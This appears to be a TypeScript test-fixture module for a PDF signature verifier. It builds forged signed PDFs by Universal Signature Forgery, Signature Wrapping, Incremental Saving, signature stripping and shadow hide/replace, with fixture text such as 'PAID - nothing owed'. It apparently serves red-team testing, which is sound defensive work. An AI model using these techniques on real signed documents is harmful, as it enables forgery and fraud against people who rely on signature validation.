      ['T', PdfString.fromText(name)],
      ['V', sigRef],
      ['Rect', [0, 0, 0, 0]],
      ['F', 132],
      ['P', p.ref],
    ]),
  );
  u.addAnnot(page, field);
  u.addField(field);
  u.acroForm().set('SigFlags', 3);
  return field;
}

/**
 * Appends one incremental update holding a signature dictionary (and, by default, a new field for
 * it), reserves /Contents, fixes /ByteRange, digests and writes /Contents — the way sign-pdf.ts
 * does, with hooks for attacks.
 */
export interface AppendedSignature {
  pdf: Uint8Array;
  /** The honest ByteRange (what was written may differ when `tamper` is used). */
  byteRange: number[];
  sigRef: PdfRef;
  layout: Layout;
  /** The byte ranges that were actually digested and signed. */
  digested: [number, number][];
  /** The /Contents bytes written. */
  contents: Uint8Array;
}

export async function appendSignature(pdf: Uint8Array, spec: SignatureSpec): Promise<AppendedSignature> {
  const u = new Update(pdf);
  const size = spec.contentsSize ?? 12 * 1024;
  const sigRef = u.allocate();
  const docTs = spec.kind === 'doc-timestamp';
  const dict = new PdfDict([
    ['Type', N(docTs ? 'DocTimeStamp' : 'Sig')],
    ['Filter', N('Adobe.PPKLite')],
    ['SubFilter', N(docTs ? 'ETSI.RFC3161' : 'ETSI.CAdES.detached')],
    ['ByteRange', new PdfRaw(BYTE_RANGE_PLACEHOLDER)],
    ['Contents', new PdfRaw('<' + '0'.repeat(size * 2) + '>')],
  ]);
  if (!docTs)
    dict.set(
      'M',
      PdfString.latin1(`D:${new Date().toISOString().replace(/[-:T]/g, '').slice(0, 14)}+00'00'`),
    );
  for (const [k, v] of spec.extra ?? []) dict.set(k, v);
  u.set(sigRef, dict);
  if (spec.attach !== false)
    attachSignatureField(u, sigRef, spec.field ?? `${docTs ? 'timestamp' : 'signature'}-x${++fieldCounter}`);
  spec.edit?.(u, sigRef);
  const { bytes: upd, offsets } = u.buildUpdate();
  const base = pdf.length;
  const sigStart = offsets.get(sigRef.num)!;
  const gapStart = indexOfBytes(upd, CONTENTS_KEY, sigStart) + CONTENTS_KEY.length;
  const gapEnd = gapStart + size * 2 + 2;
  const brPos = indexOfBytes(upd, latin1Bytes(BYTE_RANGE_PLACEHOLDER), sigStart);
  const dictEnd = indexOfBytes(upd, latin1Bytes('endobj'), gapEnd) + 6;
  const total = base + upd.length;
  const honest: [number, number, number, number] = [
    0,
    base + gapStart,
    base + gapEnd,
    total - (base + gapEnd),
  ];
  const layout: Layout = { byteRange: honest, total, dictStart: base + sigStart, dictEnd: base + dictEnd };
  const t = spec.tamper?.(layout) ?? {};
  const brText = t.byteRangeText ?? `[${honest.join(' ')}]`;
  if (brText.length > BYTE_RANGE_PLACEHOLDER.length) throw new Error(`ByteRange text too long: ${brText}`);
  upd.set(latin1Bytes(brText.padEnd(BYTE_RANGE_PLACEHOLDER.length, ' ')), brPos);
  const file = concat(pdf, upd);
  let ranges = t.ranges;
  if (!ranges) {
    const nums = brText.replace(/[[\]]/g, ' ').trim().split(/\s+/).map(Number);
    ranges = [];
    for (let i = 0; i + 1 < nums.length; i += 2) ranges.push([nums[i]!, nums[i]! + nums[i + 1]!]);
  }
  const chunks = ranges.map(([s, e]) =>
    file.subarray(Math.max(0, Math.trunc(s)), Math.min(file.length, Math.trunc(e))),
  );
  const digest = await digestChunks('SHA-256', chunks);
  const contents = await spec.produce(digest);
  if (contents.length > size) throw new Error(`contents of ${contents.length} bytes do not fit ${size}`);
  const hexAt = t.hexOffset ?? base + gapStart + 1;
  file.set(latin1Bytes(hex(contents)), hexAt);
  return { pdf: file, byteRange: honest, sigRef, layout, digested: ranges, contents };
}

/** A CAdES CMS over `digest` by `signer` (the producer for `appendSignature`). */
export function cadesProducer(signer: Signer, tsa?: Tsa): (digest: Uint8Array) => Promise<Uint8Array> {
  return (digest) => createCadesSignature({ signer, documentDigest: digest, hash: 'SHA-256', tsa });
}

/**
 * A CAdES CMS whose signature-timestamp attribute is `token` as given (e.g. a token over other
 * data, or a tampered one): the unsigned attribute is not covered by the signer's signature.
 */
export function cadesWithToken(
  signer: Signer,
  token: (signatureValue: Uint8Array) => Promise<Uint8Array>,
): (digest: Uint8Array) => Promise<Uint8Array> {
  return async (digest) => {
    const signedAttributes = buildSignedAttributes({
      messageDigest: digest,
      certificate: signer.certificate,
      hash: 'SHA-256',
    });
    const signature = await signer.sign(signedAttributes.slice());
    return buildCmsSignedData({
      signer: { ...signer, hash: 'SHA-256' },
      signedAttributes,
      signature,
      unsignedAttributes: [{ type: OID.signatureTimeStampToken, values: [await token(signature)] }],
    });
  };
}

export function hex(b: Uint8Array): string {
  let s = '';
  for (const x of b) s += (x < 16 ? '0' : '') + x.toString(16);
  return s;
}

export async function sha256(data: Uint8Array): Promise<Uint8Array> {
  return digestChunks('SHA-256', [data]);
}

/** Flips the last byte of a DER token: for RFC 3161 tokens that is inside the TSA's signature value. */
export function flipLastByte(token: Uint8Array): Uint8Array {
  const t = token.slice();
  t[t.length - 1]! ^= 0x01;
  return t;
}

// ---------------------------------------------------------------------------------------------
// Locating a signature in the bytes (for in-place attacks)
// ---------------------------------------------------------------------------------------------

export interface SignatureBytes {
  /** [start, end) of the `<...>` /Contents string. */
  contents: [number, number];
  /** [start, end) of the `[...]` ByteRange array plus the padding spaces after it. */
  byteRange: [number, number];
  /** [start, end) of `/Contents <...>` (key and value). */
  contentsEntry: [number, number];
  /** [start, end) of `/ByteRange [...]` plus padding. */
  byteRangeEntry: [number, number];
  values: [number, number, number, number];
}

/** Finds the n-th signature (in the order of the fields; default the last one) in the file's bytes. */
export function locateSignature(pdf: Uint8Array, which: 'first' | 'last' = 'last'): SignatureBytes {
  const doc = PdfDocument.load(pdf);
  const sigs = listFields(doc.latest).filter((f) => f.type === 'Sig' && f.dict.get('V') instanceof PdfRef);
  const offs = sigs.map((f) => doc.latest.offsetOf((f.dict.get('V') as PdfRef).num)!).sort((a, b) => a - b);
  const off = which === 'first' ? offs[0]! : offs[offs.length - 1]!;
  const brKey = indexOfBytes(pdf, latin1Bytes('/ByteRange'), off);
  const brStart = indexOfBytes(pdf, latin1Bytes('['), brKey);
  let brEnd = indexOfBytes(pdf, latin1Bytes(']'), brStart) + 1;
  const text = new TextDecoder('latin1').decode(pdf.subarray(brStart + 1, brEnd - 1));
  while (pdf[brEnd] === 0x20) brEnd++;
  const cKey = indexOfBytes(pdf, CONTENTS_KEY, off);
  const cStart = cKey + CONTENTS_KEY.length;
  const cEnd = indexOfBytes(pdf, latin1Bytes('>'), cStart) + 1;
  const values = text.trim().split(/\s+/).map(Number) as [number, number, number, number];
  return {
    contents: [cStart, cEnd],
    byteRange: [brStart, brEnd],
    contentsEntry: [cKey, cEnd],
    byteRangeEntry: [brKey, brEnd],
    values,
  };
}

/** Overwrites [start, end) with `text` padded with spaces (offsets stay valid). */
export function overwrite(pdf: Uint8Array, [start, end]: [number, number], text: string): Uint8Array {
  if (text.length > end - start) throw new Error(`"${text.slice(0, 40)}" does not fit ${end - start} bytes`);
  const out = pdf.slice();
  out.set(latin1Bytes(text.padEnd(end - start, ' ')), start);
  return out;
}

/** A small seeded PRNG (mulberry32). */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

// ---------------------------------------------------------------------------------------------
// Attacks: Universal Signature Forgery (in place: the offsets of everything else stay valid)
// ---------------------------------------------------------------------------------------------

export type UsfVariant =
  | 'contents-missing'
  | 'contents-empty'
  | 'contents-zeroed'
  | 'contents-garbage-hex'
  | 'contents-non-hex'
  | 'byterange-missing'
  | 'byterange-three-numbers'
  | 'byterange-negative'
  | 'byterange-past-eof'
  | 'byterange-non-integers'
  | 'byterange-a-equals-b'
  | 'byterange-not-from-zero';

export const USF_VARIANTS: UsfVariant[] = [
  'contents-missing',
  'contents-empty',
  'contents-zeroed',
  'contents-garbage-hex',
  'contents-non-hex',
  'byterange-missing',
  'byterange-three-numbers',
  'byterange-negative',
  'byterange-past-eof',
  'byterange-non-integers',
  'byterange-a-equals-b',
  'byterange-not-from-zero',
];

/** USF on a signed file: the signature dictionary's /Contents or /ByteRange made unusable in place. */
export function usf(pdf: Uint8Array, variant: UsfVariant): Uint8Array {
  const s = locateSignature(pdf);
  const [, a, b, c] = s.values;
  const len = s.contents[1] - s.contents[0];
  switch (variant) {
    case 'contents-missing':
      return overwrite(pdf, s.contentsEntry, '');
    case 'contents-empty':
      return overwrite(pdf, s.contents, '<>');
    case 'contents-zeroed':
      return overwrite(pdf, s.contents, '<' + '0'.repeat(len - 2) + '>');
    case 'contents-garbage-hex': {
      const r = prng(3161);
      let h = '';
      for (let i = 0; i < len - 2; i++) h += '0123456789abcdef'[Math.floor(r() * 16)];
      return overwrite(pdf, s.contents, '<' + h + '>');
    }
    case 'contents-non-hex':
      return overwrite(pdf, s.contents, '<' + 'zz'.repeat((len - 2) / 2) + '>');
    case 'byterange-missing':
      return overwrite(pdf, s.byteRangeEntry, '');
    case 'byterange-three-numbers':
      return overwrite(pdf, s.byteRange, `[0 ${a} ${b}]`);
    case 'byterange-negative':
      return overwrite(pdf, s.byteRange, `[0 ${a} ${b} -${c}]`);
    case 'byterange-past-eof':
      return overwrite(pdf, s.byteRange, `[0 ${a} ${b} ${c + 100000}]`);
    case 'byterange-non-integers':
      return overwrite(pdf, s.byteRange, `[0 ${a}.5 ${b}.5 ${c}]`);
    case 'byterange-a-equals-b':
      return overwrite(pdf, s.byteRange, `[0 ${a} ${a} ${pdf.length - a}]`);
    case 'byterange-not-from-zero':
      return overwrite(pdf, s.byteRange, `[10 ${a - 10} ${b} ${c}]`);
  }
}

/**
 * USF built cryptographically valid: a new signature (by our test key) over exactly the bytes a
 * lenient verifier would hash for a malformed ByteRange, so only the ByteRange checks reject it.
 */
export type UsfSignedVariant = 'three-numbers' | 'past-eof' | 'non-integers' | 'not-from-zero';
export const USF_SIGNED_VARIANTS: UsfSignedVariant[] = [
  'three-numbers',
  'past-eof',
  'non-integers',
  'not-from-zero',
];

export async function usfSigned(
  pdf: Uint8Array,
  signer: Signer,
  variant: UsfSignedVariant,
): Promise<AppendedSignature> {
  return appendSignature(pdf, {
    kind: 'cms',
    produce: cadesProducer(signer),
    tamper: ({ byteRange: [, a, b, c], total }) => {
      switch (variant) {
        case 'three-numbers': // [0 a b]: "the rest of the file from b"
          return {
            byteRangeText: `[0 ${a} ${b}]`,
            ranges: [
              [0, a],
              [b, total],
            ],
          };
        case 'past-eof': // a lenient reader stops at the end of the file
          return {
            byteRangeText: `[0 ${a} ${b} ${c + 5000}]`,
            ranges: [
              [0, a],
              [b, total],
            ],
          };
        case 'non-integers': // a lenient reader truncates
          return {
            byteRangeText: `[0 ${a}.9 ${b}.2 ${c}]`,
            ranges: [
              [0, a],
              [b, b + c],
            ],
          };
        case 'not-from-zero': // the first bytes (the header) are left unsigned
          return {
            byteRangeText: `[9 ${a - 9} ${b} ${c}]`,
            ranges: [
              [9, a],
              [b, b + c],
            ],
          };
      }
    },
  });
}

// ---------------------------------------------------------------------------------------------
// Attacks: Signature Wrapping
// ---------------------------------------------------------------------------------------------

export const SWA_VARIANTS: SwaVariant[] = [
  'gap-enlarged',
  'gap-moved',
  'dict-outside-signed-range',
  'gap-is-another-dicts-contents',
  'overlapping-ranges',
  'one-dict-two-fields',
];

export type SwaVariant =
  | 'gap-enlarged'
  | 'gap-moved'
  | 'dict-outside-signed-range'
  | 'gap-is-another-dicts-contents'
  | 'overlapping-ranges'
  | 'one-dict-two-fields';

/**
 * SWA. The first four are signed by our key over exactly the ranges named, so the signature
 * itself verifies; the last two reuse an existing signature of `signed`.
 */
export async function swa(
  signed: Uint8Array,
  signer: Signer,
  variant: SwaVariant,
): Promise<{ pdf: Uint8Array; forged?: AppendedSignature }> {
  switch (variant) {
    case 'gap-enlarged': {
      // The gap also swallows the 40 bytes after /Contents (the /M date): those become editable.
      const r = await appendSignature(signed, {
        kind: 'cms',
        produce: cadesProducer(signer),
        tamper: ({ byteRange: [, a, b, c] }) => ({ byteRangeText: `[0 ${a} ${b + 40} ${c - 40}]` }),
      });
      const out = r.pdf.slice();
      const b = r.byteRange[2]!;
      const m = indexOfBytes(out, latin1Bytes('(D:'), b);
      if (m >= 0 && m < b + 40) out[m + 3] = 0x31; // the claimed year changes; the signature still "covers" the rest
      return { pdf: out, forged: r };
    }
    case 'gap-moved': {
      // The gap slides 20 bytes left: it starts in "/Contents" and the last 20 hex digits are signed.
      const r = await appendSignature(signed, {
        kind: 'cms',
        produce: cadesProducer(signer),
        tamper: ({ byteRange: [, a, b, c] }) => ({ byteRangeText: `[0 ${a - 20} ${b - 20} ${c + 20}]` }),
      });
      return { pdf: r.pdf, forged: r };
    }
    case 'dict-outside-signed-range': {
      // The signed bytes stop right after the /Contents string: the rest of the dictionary (its
      // /M, its end) and everything after it are outside the signature.
      const r = await appendSignature(signed, {
        kind: 'cms',
        produce: cadesProducer(signer),
        tamper: ({ byteRange: [, a, b] }) => ({ byteRangeText: `[0 ${a} ${b} 1]` }),
      });
      return { pdf: r.pdf, forged: r };
    }
    case 'gap-is-another-dicts-contents': {
      // A new signature dictionary whose /ByteRange is copied from the existing signature: its
      // gap is the other dictionary's /Contents, and its own /Contents holds a copy of that CMS.
      const s = locateSignature(signed);
      const cms = hexToBytes(
        new TextDecoder('latin1').decode(signed.subarray(s.contents[0] + 1, s.contents[1] - 1)),
      );
      const r = await appendSignature(signed, {
        kind: 'cms',
        produce: async () => trimTrailingZeros(cms),
        tamper: () => ({ byteRangeText: `[${s.values.join(' ')}]` }),
      });
      return { pdf: changeContentStream(r.pdf) };
    }
    case 'overlapping-ranges': {
      // A second signature whose range excludes the FIRST signature's /Contents instead of its
      // own: the two ranges overlap other than as prefixes.
      const s = locateSignature(signed);
      const [, a1, b1] = s.values;
      const r = await appendSignature(signed, {
        kind: 'cms',
        produce: cadesProducer(signer),
        tamper: ({ total }) => ({ byteRangeText: `[0 ${a1} ${b1} ${total - b1}]` }),
      });
      return { pdf: r.pdf };
    }
    case 'one-dict-two-fields': {
      // A second field whose /V is the existing signature dictionary, next to a content change.
      const doc = PdfDocument.load(signed);
      const sig = listFields(doc.latest).find((f) => f.type === 'Sig' && f.dict.get('V') instanceof PdfRef)!;
      const sigRef = sig.dict.get('V') as PdfRef;
      return { pdf: update(signed, (u) => void attachSignatureField(u, sigRef, 'copy-of-seal')) };
    }
  }
}

export function hexToBytes(h: string): Uint8Array {
  const s = h.replace(/[^0-9a-fA-F]/g, '');
  const out = new Uint8Array(s.length >> 1);
  for (let i = 0; i < out.length; i++) out[i] = parseInt(s.slice(i * 2, i * 2 + 2), 16);
  return out;
}

function trimTrailingZeros(b: Uint8Array): Uint8Array {
  let e = b.length;
  while (e > 0 && b[e - 1] === 0) e--;
  return b.subarray(0, e);
}

// ---------------------------------------------------------------------------------------------
// Attacks: Incremental Saving
// ---------------------------------------------------------------------------------------------

export type IsaVariant =
  | 'redirect-content-object'
  | 'page-to-new-content'
  | 'objects-without-xref'
  | 'xref-without-prev'
  | 'unreadable-redeclaration'
  | 'undeclared-redefinition'
  | 'overdeclared-xref-stream';
export const ISA_VARIANTS: IsaVariant[] = [
  'redirect-content-object',
  'page-to-new-content',
  'objects-without-xref',
  'xref-without-prev',
  'unreadable-redeclaration',
  'undeclared-redefinition',
  'overdeclared-xref-stream',
];

/** ISA on a signed file. */
export function isa(signed: Uint8Array, variant: IsaVariant): Uint8Array {
  const doc = PdfDocument.load(signed);
  const view = doc.latest;
  const contentRef = firstContentRef(view, 0);
  const evil = `BT /F1 24 Tf 72 720 Td (Sidian fixture: PAID - nothing owed) Tj ET\n`;
  switch (variant) {
    case 'redirect-content-object':
      // the same object number, new bytes, a new xref entry
      return update(signed, (u) => u.set(contentRef, stream(evil)));
    case 'page-to-new-content':
      return update(signed, (u) => u.editDict(u.page(0).ref).set('Contents', u.add(stream(evil))));
    case 'objects-without-xref': {
      // new object bytes appended after %%EOF, no xref section or trailer (readers that
      // reconstruct the xref pick them up)
      const text = `\n${contentRef.num} 0 obj\n<< /Length ${evil.length} >>\nstream\n${evil}endstream\nendobj\n`;
      return concat(signed, latin1Bytes(text));
    }
    case 'xref-without-prev': {
      // a complete new xref table with no /Prev: the signed revision's history is cut off
      const base = signed.length;
      const obj = `${contentRef.num} 0 obj\n<< /Length ${evil.length} >>\nstream\n${evil}endstream\nendobj\n`;
      const objOff = base + 1;
      const entries = new Map<number, number>();
      for (const [num, e] of view.entries) if (e.type === 1) entries.set(num, e.offset);
      entries.set(contentRef.num, objOff);
      const size = view.size;
      let xref = `xref\n0 ${size}\n`;
      for (let n = 0; n < size; n++) {
        const off = entries.get(n);
        xref += off === undefined ? `0000000000 65535 f\r\n` : `${String(off).padStart(10, '0')} 00000 n\r\n`;
      }
      const xrefOff = objOff + obj.length;
      const trailer = `trailer\n<< /Size ${size} /Root ${view.rootRef.num} 0 R >>\nstartxref\n${xrefOff}\n%%EOF\n`;
      return concat(signed, latin1Bytes('\n' + obj + xref + trailer));
    }
    case 'undeclared-redefinition': {
      // a well-formed update (it re-declares only the Info dictionary) whose bytes also hold a new
      // definition of the content object that its xref does not list: a repairing reader takes it
      const info = view.trailer.get('Info');
      const infoNum = info instanceof PdfRef ? info.num : view.rootRef.num;
      const infoText = serializeObject(view.get(infoNum) ?? null);
      const evilObj = `\n${contentRef.num} 0 obj\n<< /Length ${evil.length} >>\nstream\n${evil}endstream\nendobj\n`;
      const infoOff = signed.length + evilObj.length;
      const infoObj = `${infoNum} 0 obj\n${infoText}\nendobj\n`;
      const xrefOff = infoOff + infoObj.length;
      const tail =
        `xref\n${infoNum} 1\n${String(infoOff).padStart(10, '0')} 00000 n\r\n` +
        `trailer\n<< /Size ${view.size} /Root ${view.rootRef.num} 0 R /Prev ${doc.startxref} >>\nstartxref\n${xrefOff}\n%%EOF\n`;
      return concat(signed, latin1Bytes(evilObj + infoObj + tail));
    }
    case 'overdeclared-xref-stream': {
      // the new content object, then a cross-reference stream whose /Index claims 2^31 entries
      // but holds one row: we read what is there, MuPDF calls it broken, repairs, and shows the
      // new content
      const evilObj = `\n${contentRef.num} 0 obj\n<< /Length ${evil.length} >>\nstream\n${evil}endstream\nendobj\n`;
      const at = signed.length + evilObj.length;
      const self = view.size;
      const row = new Uint8Array(17);
      row[0] = 1;
      for (let k = 0; k < 8; k++) row[1 + k] = Math.floor(at / 2 ** (8 * (7 - k))) & 0xff;
      const head = `${self} 0 obj\n<< /Type /XRef /Size ${self + 1} /W [1 8 8] /Index [0 2147483647] /Root ${view.rootRef.num} 0 R /Prev ${doc.startxref} /Length ${row.length} >>\nstream\n`;
      return concat(
        signed,
        latin1Bytes(evilObj + head),
        row,
        latin1Bytes(`\nendstream\nendobj\nstartxref\n${at}\n%%EOF\n`),
      );
    }
    case 'unreadable-redeclaration': {
      // the content object re-declared with a 10 GB /Length and no endstream: a strict reader
      // cannot read it, a lenient one renders what follows; the reader's fallback would find
      // the signed original instead
      const text = `\n${contentRef.num} 0 obj\n<< /Length 10000000000 >>\nstream\n${evil}`;
      const objOff = signed.length + 1;
      const xrefOff = signed.length + text.length;
      const tail =
        `xref\n${contentRef.num} 1\n${String(objOff).padStart(10, '0')} 00000 n\r\n` +
        `trailer\n<< /Size ${view.size} /Root ${view.rootRef.num} 0 R /Prev ${doc.startxref} >>\nstartxref\n${xrefOff}\n%%EOF\n`;
      return concat(signed, latin1Bytes(text + tail));
    }
  }
}

/** Offset of the first or last `num 0 obj` in the file. */
export function findDefinition(pdf: Uint8Array, num: number, which: 'first' | 'last'): number | undefined {
  const marker = latin1Bytes(`\n${num} 0 obj`);
  let found: number | undefined;
  for (let k = indexOfBytes(pdf, marker, 0); k >= 0; k = indexOfBytes(pdf, marker, k + 1)) {
    found = k + 1;
    if (which === 'first') return found;
  }
  return found;
}

/**
 * A hand-written incremental update (classic xref) that only re-points object `num` at `offset` —
 * an object definition already inside the signed bytes. No new object is written.
 */
export function pointXrefEntry(pdf: Uint8Array, num: number, offset: number): Uint8Array {
  const doc = PdfDocument.load(pdf);
  const view = doc.latest;
  const lead = pdf[pdf.length - 1] === 0x0a ? '' : '\n';
  const xrefOff = pdf.length + lead.length;
  const text =
    `${lead}xref\n${num} 1\n${String(offset).padStart(10, '0')} 00000 n\r\n` +
    `trailer\n<< /Size ${view.size} /Root ${view.rootRef.num} 0 R /Prev ${doc.startxref} >>\nstartxref\n${xrefOff}\n%%EOF\n`;
  return concat(pdf, latin1Bytes(text));
}

// ---------------------------------------------------------------------------------------------
// Attacks: taking the newest signature out of the form (earlier signatures stay intact)
// ---------------------------------------------------------------------------------------------

export type StripVariant = 'v-renamed' | 'ft-changed' | 'v-dangling' | 'field-removed';
export const STRIP_VARIANTS: StripVariant[] = ['v-renamed', 'ft-changed', 'v-dangling', 'field-removed'];

/**
 * Makes the newest signature of `signed` disappear as a signature: one byte of its field changed in
 * place (/V renamed, /FT no longer /Sig, /V pointing at a missing object), or an update that drops
 * the field from /Fields and /Annots. A verifier that simply stops seeing it reports the earlier
 * signatures valid although signed bytes changed.
 */
export function stripNewestSignature(signed: Uint8Array, variant: StripVariant): Uint8Array {
  const doc = PdfDocument.load(signed);
  const view = doc.latest;
  const sigs = listFields(view).filter((f) => f.type === 'Sig' && f.dict.get('V') instanceof PdfRef && f.ref);
  const newest = sigs.sort(
    (a, b) =>
      view.offsetOf((b.dict.get('V') as PdfRef).num)! - view.offsetOf((a.dict.get('V') as PdfRef).num)!,
  )[0]!;
  const off = view.offsetOf(newest.ref!.num)!;
  const patch = (needle: string, replacement: string): Uint8Array => {
    const at = indexOfBytes(signed, latin1Bytes(needle), off);
    if (at < 0 || replacement.length !== needle.length) throw new Error(`cannot patch ${needle}`);
    const out = signed.slice();
    out.set(latin1Bytes(replacement), at);
    return out;
  };
  const v = newest.dict.get('V') as PdfRef;
  switch (variant) {
    case 'v-renamed':
      return patch(`/V ${v.num} 0 R`, `/W ${v.num} 0 R`);
    case 'ft-changed':
      return patch('/FT /Sig', '/FT /Sjg');
    case 'v-dangling': {
      const missing = String(view.size + 7)
        .padStart(String(v.num).length, '9')
        .slice(-String(v.num).length);
      if (view.entries.has(Number(missing))) throw new Error('no free number of the same width');
      return patch(`/V ${v.num} 0 R`, `/V ${missing} 0 R`);
    }
    case 'field-removed':
      return update(signed, (u) => {
        const acro = u.acroForm();
        const fields = acro.get('Fields');
        const drop = (a: PdfObject[]) => a.filter((x) => !(x instanceof PdfRef && x.num === newest.ref!.num));
        if (fields instanceof PdfRef) u.set(fields, drop(u.view.array(fields) ?? []));
        else acro.set('Fields', drop((fields as PdfObject[]) ?? []));
        for (const [i, p] of u.pages().entries()) {
          const annots = p.dict.get('Annots');
          const arr = u.view.array(annots);
          if (!arr?.some((x) => x instanceof PdfRef && x.num === newest.ref!.num)) continue;
          if (annots instanceof PdfRef) u.set(annots, drop(arr));
          else u.editDict(u.page(i).ref).set('Annots', drop(arr));
        }
      });
  }
}

// ---------------------------------------------------------------------------------------------
// Attacks: shadow hide / replace / hide-and-replace (Mainka et al., 2021)
// The "prepare" step runs BEFORE signing (the attacker authors the document that gets signed);
// the "reveal" step is the update after signing.
// ---------------------------------------------------------------------------------------------

export type ShadowVariant =
  | 'hide-reveal-annotation'
  | 'hide-unhide-annotation'
  | 'replace-field-appearance'
  | 'replace-overwrite-shown-object'
  | 'hide-and-replace-xref-entry'
  | 'hide-and-replace-page-contents';

export interface ShadowAttack {
  /** Input for the shadow attack's signed revision. */
  input: InputName;
  /** Hidden content added before signing. */
  prepare: (pdf: Uint8Array) => Uint8Array;
  /** The update after signing that reveals it. */
  reveal: (signed: Uint8Array) => Uint8Array;
}

const OVERLAY_TEXT = 'BT /F1 20 Tf 72 720 Td (Sidian fixture: REVOKED - do not pay) Tj ET\n';

function opaqueOverlay(u: Update, hiddenFlag: boolean): PdfRef {
  const [x0, y0, x1, y1] = MARKER_RECT as [number, number, number, number];
  const ap = u.add(formXObject(x1 - x0, y1 - y0, `1 g 0 0 ${x1 - x0} ${y1 - y0} re f\n`));
  return u.add(
    new PdfDict([
      ['Type', N('Annot')],
      ['Subtype', N('Square')],
      ['Rect', [x0, y0, x1, y1]],
      ['IC', [1, 1, 1]],
      ['F', hiddenFlag ? 2 : 4],
      ['AP', new PdfDict([['N', ap]])],
    ]),
  );
}

export const SHADOW: Record<ShadowVariant, ShadowAttack> = {
  // Hide: an opaque overlay exists, unreferenced, in the signed revision; the update lists it in /Annots.
  'hide-reveal-annotation': {
    input: 'classic-1.3',
    prepare: (pdf) => update(pdf, (u) => void opaqueOverlay(u, false)),
    reveal: (signed) => {
      const num = findObjectNum(signed, (d) => d.name('Subtype') === 'Square');
      return update(signed, (u) => u.addAnnot(0, new PdfRef(num, 0)));
    },
  },
  // Hide: the overlay is on the page but flagged Hidden; the update clears the flag.
  'hide-unhide-annotation': {
    input: 'classic-1.3',
    prepare: (pdf) => update(pdf, (u) => u.addAnnot(0, opaqueOverlay(u, true))),
    reveal: (signed) => {
      const num = findObjectNum(signed, (d) => d.name('Subtype') === 'Square');
      return update(signed, (u) => u.editDict(new PdfRef(num, 0)).set('F', 4));
    },
  },
  // Replace: a second appearance for a form field hides in the signed revision; the update "fills"
  // the field and points its appearance at it.
  'replace-field-appearance': {
    input: 'acroform',
    prepare: (pdf) =>
      update(pdf, (u) => {
        const helv = acroFormFont(u.view);
        if (!helv) throw new Error('the form has no /Helv font');
        u.add(
          formXObject(
            250,
            22,
            `0 0 0 RG 0.5 0.5 249 21 re S\n/Tx BMC\nq BT /Helv 12 Tf 0 g 3 6.5 Td (Li Si) Tj ET Q\nEMC\n`,
            new PdfDict([['Font', new PdfDict([['Helv', helv]])]]),
          ),
        );
      }),
    reveal: (signed) => {
      const hidden = findObjectNum(
        signed,
        (d, s) =>
          d.name('Subtype') === 'Form' && !!s && new TextDecoder('latin1').decode(s.data).includes('(Li Si)'),
      );
      return update(signed, (u) => {
        const f = listFields(u.view).find((x) => x.fullName === 'applicant-name')!;
        const fd = u.editDict(f.ref!);
        fd.set('V', PdfString.latin1('Li Si'));
        fd.set('AP', new PdfDict([['N', new PdfRef(hidden, 0)]]));
      });
    },
  },
  // Replace (pyHanko's "sneaky" form update): the field's appearance stream is also drawn by the
  // page content; "filling" the field overwrites that object in place, changing the page too.
  'replace-overwrite-shown-object': {
    input: 'acroform',
    prepare: (pdf) =>
      update(pdf, (u) => {
        const f = listFields(u.view).find((x) => x.fullName === 'applicant-name')!;
        const ap = u.view.dict(f.dict.get('AP'))!.get('N') as PdfRef;
        const page = u.page(0);
        const pd = u.editDict(page.ref);
        const res = (u.view.dict(pd.get('Resources')) ?? new PdfDict()).clone();
        res.set('XObject', new PdfDict([['Fm0', ap]]));
        pd.set('Resources', res);
        const content = firstContentRef(u.view, 0);
        u.set(content, stream(pageContent(u.view, 0) + 'q 1 0 0 1 200 300 cm /Fm0 Do Q\n'));
      }),
    reveal: (signed) =>
      update(signed, (u) => {
        const f = listFields(u.view).find((x) => x.fullName === 'applicant-name')!;
        const ap = u.view.dict(f.dict.get('AP'))!.get('N') as PdfRef;
        u.editDict(f.ref!).set('V', PdfString.latin1('Li Si'));
        const old = u.view.get(ap.num) as PdfStream;
        u.set(
          ap,
          new PdfStream(
            old.dict.clone(),
            latin1Bytes(
              '0 0 0 RG 0.5 0.5 249 21 re S\n/Tx BMC\nq BT /Helv 12 Tf 0 g 3 6.5 Td (Li Si) Tj ET Q\nEMC\n',
            ),
          ),
        );
      }),
  },
  // Hide-and-replace: the signed revision holds two definitions of the page's content object (the
  // xref of the last pre-signing update points at the benign one); the update re-points the
  // xref entry at the malicious one, writing no object at all.
  'hide-and-replace-xref-entry': {
    input: 'classic-1.3',
    prepare: (pdf) => {
      const view = PdfDocument.load(pdf).latest;
      const ref = firstContentRef(view, 0);
      const benign = view.get(ref.num) as PdfStream;
      const withEvil = update(pdf, (u) => u.set(ref, stream(OVERLAY_TEXT)));
      return update(withEvil, (u) => u.set(ref, new PdfStream(benign.dict.clone(), benign.data)));
    },
    reveal: (signed) => {
      const view = PdfDocument.load(signed).latest;
      const ref = firstContentRef(view, 0);
      // the second definition of the object is the malicious one written before signing
      const marker = latin1Bytes(`\n${ref.num} 0 obj`);
      const offs: number[] = [];
      for (let k = indexOfBytes(signed, marker, 0); k >= 0; k = indexOfBytes(signed, marker, k + 1))
        offs.push(k + 1);
      return pointXrefEntry(signed, ref.num, offs[1]!);
    },
  },
  // Hide-and-replace: an unused content stream in the signed revision becomes the page's content.
  'hide-and-replace-page-contents': {
    input: 'classic-1.3',
    prepare: (pdf) => update(pdf, (u) => void u.add(stream(OVERLAY_TEXT))),
    reveal: (signed) => {
      const hidden = findObjectNum(
        signed,
        (_d, s) => !!s && new TextDecoder('latin1').decode(s.data).includes('REVOKED'),
      );
      return update(signed, (u) => u.editDict(u.page(0).ref).set('Contents', new PdfRef(hidden, 0)));
    },
  },
};

/** The number of the (last) object matching `pred`. */
export function findObjectNum(pdf: Uint8Array, pred: (d: PdfDict, s?: PdfStream) => boolean): number {
  const view = PdfDocument.load(pdf).latest;
  let found: number | undefined;
  for (const [num, e] of view.entries) {
    if (e.type === 0) continue;
    let v: PdfObject | undefined;
    try {
      v = view.get(num);
    } catch {
      continue;
    }
    if (v instanceof PdfDict && pred(v)) found = num;
    if (v instanceof PdfStream && pred(v.dict, v)) found = num;
  }
  if (found === undefined) throw new Error('object not found');
  return found;
}

// ---------------------------------------------------------------------------------------------
// Attack classes of issue 14 (second red team): each rebuilt from a signed base, never a file
// ---------------------------------------------------------------------------------------------

